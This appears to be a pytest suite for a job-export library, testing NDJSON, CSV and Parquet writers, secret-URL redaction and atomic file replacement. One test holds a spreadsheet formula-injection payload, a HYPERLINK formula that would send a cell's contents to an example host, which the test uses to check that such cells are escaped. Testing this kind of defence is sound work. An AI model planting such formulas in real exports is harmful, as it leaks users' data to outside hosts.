"""Files of jobs: what writers write, and when a file is in its place."""

import csv
import io
import json
import os
import stat
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import attrs
import polars
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from plangrep_async import Job, JobError, JobFile
from plangrep_async.export import (
    CSV_COLUMNS,
    CsvWriter,
    JobWriter,
    NdjsonWriter,
    ParquetWriter,
    atomic_file,
    job_schema,
)
from tests.conftest import TOKEN, wire_job
from tests.test_export_arrow import CONVERTER, JOBS, job_of, make_job

WRITERS = [NdjsonWriter, CsvWriter, ParquetWriter]
NAMED = "plan.pdf"


def written(writer: Callable[..., JobWriter], *jobs: Job, **options: Any) -> bytes:
    """Give the bytes of a whole file of these jobs."""
    file = io.BytesIO()
    with writer(file, **options) as open_writer:
        for job in jobs:
            open_writer.write(job)
    return file.getvalue()


def rows_of(csv_file: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_file.decode("utf-8-sig"), newline="")))


def test_json_lines_are_what_the_api_sent() -> None:
    """Each line is the object of one job, without its secret address unless that is asked for."""
    wire = [wire_job(number, externalId="Küche\u2028\x85\n") for number in range(3)]
    jobs = [CONVERTER.structure(one, Job) for one in wire]
    lines = written(NdjsonWriter, *jobs, with_result_url=True).decode().splitlines()
    assert [json.loads(line) for line in lines] == wire
    without = written(NdjsonWriter, *jobs).decode()
    assert TOKEN not in without
    assert [json.loads(line) | {"resultUrl": one["resultUrl"]} for line, one in zip(
        without.splitlines(), wire, strict=True
    )] == wire  # fmt: skip
    assert "Küche" in without
    assert written(NdjsonWriter, *jobs, ascii_only=True).isascii()


def test_a_row_of_csv_has_all_that_is_flat() -> None:
    """The columns are the documented ones; times have a Z, None is empty."""
    job = make_job(
        7,
        files=[{"id": f"f{n}", "fileName": n, "status": "x"} for n in ('a "b", c.pdf', "d\ne")],
        error={"code": "failed", "message": "No page."},
        expiresAt="2024-11-09T09:00:00.123456Z",
    )
    file = written(CsvWriter, job)
    assert file.startswith(b"\xef\xbb\xbfproject_id,id,")
    assert file.count(b"\r\n") == 2
    (row,) = rows_of(file)
    assert tuple(row) == CSV_COLUMNS
    assert row == {
        "project_id": job.project_id,
        "id": "job_000007",
        "external_id": "",
        "status": "completed",
        "created_at": "2024-11-02T23:59:00.000Z",
        "updated_at": "2024-11-02T23:59:00.000Z",
        "completed_at": "2024-11-02T23:59:00.000Z",
        "expires_at": "2024-11-09T09:00:00.123456Z",
        "page_count": "7",
        "successful_page_count": "7",
        "credits_debited": "7",
        "file_count": "2",
        "file_names": 'a "b", c.pdf; d\ne',
        "max_declared_bytes": "10000000000",
        "max_files": "100",
        "error_code": "failed",
        "error_message": "No page.",
    }


def test_the_secret_column_of_csv_comes_on_demand_only() -> None:
    """`result_url` is the last column if it is asked for, and nowhere otherwise."""
    assert TOKEN not in written(CsvWriter, make_job()).decode()
    (row,) = rows_of(written(CsvWriter, make_job(), with_result_url=True))
    assert list(row) == [*CSV_COLUMNS, "result_url"]
    assert TOKEN in row["result_url"]


@pytest.mark.parametrize("start", list("=+-@\t\r\n＝＋－＠'"))  # noqa: RUF001  # Excel knows them
def test_no_cell_is_taken_for_a_formula(start: str) -> None:
    """A text that begins like a formula has an apostrophe before it; one taken away restores it."""
    evil = f'{start}HYPERLINK("https://example.com?x="&A1;"plan")'
    job = attrs.evolve(
        make_job(-5),
        id=evil,
        external_id=evil,
        files=(JobFile(file_name=evil),),
        error=JobError(code=evil, message=evil),
    )
    (row,) = rows_of(written(CsvWriter, job))
    for name in ("id", "external_id", "file_names", "error_code", "error_message"):
        assert row[name] == f"'{evil}"
    assert row["page_count"] == "-5"  # a number is none


def test_other_texts_are_left_alone() -> None:
    """Only the first character counts."""
    (row,) = rows_of(written(CsvWriter, attrs.evolve(make_job(), external_id="a=b '+' -@")))
    assert row["external_id"] == "a=b '+' -@"


@settings(max_examples=20, deadline=None)
@given(st.lists(JOBS, max_size=5))
def test_jobs_come_back_from_parquet_as_they_were(jobs: list[Job]) -> None:
    """Any jobs, written and read again, are equal, and so is the schema."""
    table = pq.read_table(pa.BufferReader(written(ParquetWriter, *jobs, with_result_url=True)))
    assert table.schema == job_schema(with_result_url=True)
    assert [job_of(row) for row in table.to_pylist()] == jobs


def test_parquet_is_written_in_row_groups(monkeypatch: pytest.MonkeyPatch) -> None:
    """A file of many jobs has several row groups, all jobs in order, and no secret column."""
    monkeypatch.setattr("plangrep_async.export._parquet.ROW_GROUP_BYTES", 100_000)
    file = written(ParquetWriter, *(make_job(number) for number in range(5_000)))
    parquet = pq.ParquetFile(pa.BufferReader(file))
    groups = [parquet.metadata.row_group(n).num_rows for n in range(parquet.num_row_groups)]
    assert groups == [2048, 2048, 904]
    assert parquet.read()["page_count"].to_pylist() == list(range(5_000))
    assert TOKEN.encode() not in file
    assert parquet.schema_arrow == job_schema()


def test_polars_reads_the_types(tmp_path: Path) -> None:
    """An independent reader finds the documented types and values."""
    path = tmp_path / "jobs.parquet"
    path.write_bytes(written(ParquetWriter, make_job(3, error={"code": "x", "n": [1]})))
    frame = polars.read_parquet(path)
    text, count, moment = polars.String, polars.Int64, polars.Datetime("us", "UTC")
    assert frame.schema["created_at"] == moment
    assert frame.schema["status"] == text
    assert frame.schema["limits"] == polars.Struct(
        {"max_declared_bytes": count, "max_files": count}
    )
    file = polars.Struct({"id": text, "file_name": text, "status": text})
    assert frame.schema["files"] == polars.List(file)
    (row,) = frame.to_dicts()
    assert row["created_at"] == make_job(3).created_at
    assert row["files"][0]["file_name"] == NAMED
    assert row["error"] == {"code": "x", "message": None, "raw": '{"code":"x","n":[1]}'}
    as_csv = polars.read_csv(written(CsvWriter, make_job(3)), try_parse_dates=True)
    assert as_csv["created_at"].dt.convert_time_zone("UTC").to_list() == [make_job(3).created_at]


@pytest.mark.parametrize("writer", WRITERS)
def test_no_jobs_make_a_valid_file(writer: type[JobWriter]) -> None:
    """A file of no jobs has its head, and no row."""
    file = written(writer)
    if writer is ParquetWriter:
        assert pq.read_table(pa.BufferReader(file)).num_rows == 0
    assert file.count(b"\n") <= 1 or writer is ParquetWriter


class Pipe:
    """Takes bytes, nothing else can be asked of it; full after some."""

    def __init__(self, room: int) -> None:
        self.data = b""
        self._room = room

    def write(self, data: bytes) -> None:
        """Take bytes."""
        if len(self.data) + len(data) > self._room:
            raise OSError(28, "No space left on device")
        self.data += data


@pytest.mark.parametrize("writer", WRITERS)
def test_a_writer_asks_for_nothing_but_write(writer: Callable[..., JobWriter]) -> None:
    """What has no position and cannot seek can be written to."""
    pipe = Pipe(room=100_000)
    with writer(pipe) as open_writer:
        open_writer.write(make_job(1))
    assert pipe.data == written(writer, make_job(1))


@pytest.mark.parametrize("room", [0, 4, 100, 3_000])
def test_a_full_disk_is_raised_and_nothing_follows(room: int) -> None:
    """The error of the file comes out, and the broken file is not made to look complete."""
    pipe = Pipe(room)

    def write_all() -> None:
        with ParquetWriter(pipe) as writer:
            writer.write(make_job(1))

    with pytest.raises(OSError, match="No space left"):
        write_all()
    assert len(pipe.data) <= room


def test_what_is_cut_short_does_not_look_complete() -> None:
    """After an exception in its block, a Parquet file has no end, and cannot be read."""
    file = io.BytesIO()

    def break_off() -> None:
        with ParquetWriter(file) as writer:
            writer.write(make_job(1))
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        break_off()
    assert file.getvalue() == b"PAR1"
    with pytest.raises(pa.ArrowInvalid):
        pq.read_table(pa.BufferReader(file.getvalue()))


# Files.


def test_a_file_is_in_its_place_when_it_is_complete(tmp_path: Path) -> None:
    """Until the block ends the old file is there; then the new one is, and nothing else."""
    path = tmp_path / "jobs.csv"
    path.write_bytes(b"old")
    with atomic_file(path) as file:
        file.write(b"new")
        file.flush()
        assert path.read_bytes() == b"old"
        (hidden,) = tmp_path.glob(".jobs.csv.*.tmp")
        assert hidden.read_bytes() == b"new"
    assert path.read_bytes() == b"new"
    assert list(tmp_path.iterdir()) == [path]


@pytest.mark.parametrize("error", [ValueError, KeyboardInterrupt, GeneratorExit])
def test_a_block_that_fails_leaves_the_place_alone(
    error: type[BaseException], tmp_path: Path
) -> None:
    """After any exception the old file is there, or none, and the half one is gone."""
    path = tmp_path / "jobs.csv"

    def break_off() -> None:
        with atomic_file(path) as file:
            file.write(b"half")
            raise error

    with pytest.raises(error):
        break_off()
    assert list(tmp_path.iterdir()) == []


def test_permissions_are_kept_and_new_files_have_the_usual_ones(tmp_path: Path) -> None:
    """A new file is as the umask wants it; one that is replaced stays as private as it was."""
    path = tmp_path / "jobs.csv"
    before = os.umask(0o027)
    try:
        with atomic_file(path):
            pass
        assert stat.S_IMODE(path.stat().st_mode) == 0o640
        path.chmod(0o604)
        with atomic_file(path):
            (hidden,) = tmp_path.glob(".*")
            assert stat.S_IMODE(hidden.stat().st_mode) == 0o604
        assert stat.S_IMODE(path.stat().st_mode) == 0o604
    finally:
        os.umask(before)


def test_a_link_keeps_leading_to_its_file(tmp_path: Path) -> None:
    """The file that a link leads to is replaced, in its own directory, also where it is missing."""
    (tmp_path / "real").mkdir()
    real, link = tmp_path / "real" / "jobs.csv", tmp_path / "jobs.csv"
    link.symlink_to(Path("real") / "jobs.csv")
    for content in (b"first", b"second"):
        with atomic_file(link) as file:
            file.write(content)
        assert link.is_symlink()
        assert real.read_bytes() == content
    assert list(real.parent.iterdir()) == [real]


def test_a_place_that_cannot_be_written_to_is_refused_at_once(tmp_path: Path) -> None:
    """A directory, and one that is missing, raise before anything is written, and are named."""
    for path, error in ((tmp_path, IsADirectoryError), (tmp_path / "no" / "x", FileNotFoundError)):
        with pytest.raises(error) as raised, atomic_file(path):
            raise AssertionError
        assert raised.value.filename == str(path)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_a_file_that_is_read_only_is_not_replaced(tmp_path: Path) -> None:
    """What a shell would not overwrite is not replaced either."""
    path = tmp_path / "jobs.csv"
    path.write_bytes(b"old")
    path.chmod(0o444)
    with pytest.raises(PermissionError), atomic_file(path):
        raise AssertionError
    tmp_path.chmod(0o555)
    try:
        with pytest.raises(PermissionError), atomic_file(tmp_path / "new.csv"):
            raise AssertionError
    finally:
        tmp_path.chmod(0o755)


def test_a_name_may_be_as_long_as_the_system_allows(tmp_path: Path) -> None:
    """The hidden name beside it is shorter."""
    path = tmp_path / ("ü" * 127)
    with atomic_file(path) as file:
        file.write(b"x")
    assert path.read_bytes() == b"x"


def test_a_pipe_stays_one(tmp_path: Path) -> None:
    """A named pipe is written to, and not replaced by a file."""
    path = tmp_path / "pipe"
    os.mkfifo(path)
    found: list[bytes] = []
    reader = threading.Thread(target=lambda: found.append(path.read_bytes()))
    reader.start()
    with atomic_file(path) as file, ParquetWriter(file) as writer:
        writer.write(make_job(1))
    reader.join()
    assert found == [written(ParquetWriter, make_job(1))]
    assert path.is_fifo()


@pytest.mark.skipif(not Path("/dev/stdout").exists(), reason="needs /dev/stdout")
def test_the_standard_output_is_not_replaced(tmp_path: Path) -> None:
    """`/dev/stdout`, also by a link, goes to the end of the file that standard output is."""
    link, output = tmp_path / "link", tmp_path / "output"
    link.symlink_to("/dev/stdout")
    program = (
        "import sys\nfrom plangrep_async.export import atomic_file\n"
        "for path in sys.argv[1:]:\n"
        "    with atomic_file(path) as file:\n        file.write(path.encode())\n"
    )
    with output.open("w") as file:
        file.write("before")
        file.flush()
        node = output.stat().st_ino
        command = [sys.executable, "-c", program, "/dev/stdout", str(link)]
        subprocess.run(command, stdout=file, check=True)
    assert output.read_text() == f"before/dev/stdout{link}"
    assert output.stat().st_ino == node
    assert sorted(tmp_path.iterdir()) == [link, output]
